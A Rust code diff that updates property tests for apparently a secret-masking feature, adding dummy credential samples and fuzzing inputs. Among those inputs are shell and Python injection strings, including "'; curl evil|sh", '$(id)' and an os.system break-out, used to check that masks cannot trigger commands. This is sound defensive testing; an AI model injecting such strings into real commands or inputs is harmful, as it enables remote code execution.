@@ -108,8 +108,19 @@ fn is_code(run: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::secret::samples::SECRETS;
+    use crate::secret::rules::tests::examples;
     use proptest::prelude::*;
+
+    /// Secrets that their names show.
+    const NAMED: [&str; 7] = [
+        "DB_PASSWORD=tG4#xw8Kd!Zq1nPy",
+        "WEATHER_KEY=b9f3c27e4a1d8f60b7e52c9a13d4f8e6",
+        "\"client_secret\": \"q7Wxnc2V8bRyHsJ4\"",
+        "密码：q7Wxnc2V8b",
+        "tool --password q7WxTnc2V8 run",
+        "define('DB_PASSWORD', 'q7WxTnc2V8');",
+        "{\"password\": \"q7W\\u0078Tnc2V8bRy4\"}",
+    ];
 
     /// A question without its masks.
     fn shown(text: &str) -> String {
@@ -180,8 +191,8 @@ mod tests {
 
     #[test]
     fn every_rule_has_a_secret_to_be_tried_with() {
-        for text in SECRETS {
-            assert!(masked_for_person(text).1, "{text}");
+        for texts in examples() {
+            assert!(texts.iter().any(|text| masked_for_person(text).1), "{texts:?}");
         }
     }
 
@@ -189,10 +200,10 @@ mod tests {
         #![proptest_config(ProptestConfig::with_cases(2000))]
         #[test]
         fn no_mask_of_a_question_stands_for_a_sign_that_acts(
-            which in 0..SECRETS.len(),
+            which in prop::sample::select([examples().concat(), NAMED.map(str::to_owned).to_vec()].concat()),
             places in prop::collection::vec((0.0..1.0_f64, "[ \t\n'\"`;$(){}<>|&\\\\,:#!]{1,3}|'; curl evil\\|sh; : '|\\$\\(id\\)|\u{e9}|\"\"\"; import os; os.system\\(1\\)"), 0..4),
         ) {
-            let mut text = SECRETS[which].to_owned();
+            let mut text = which;
             for (place, sign) in places {
                 #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a place in a short text")]
                 let at = crate::finding::floor(&text, (text.len() as f64 * place) as usize);
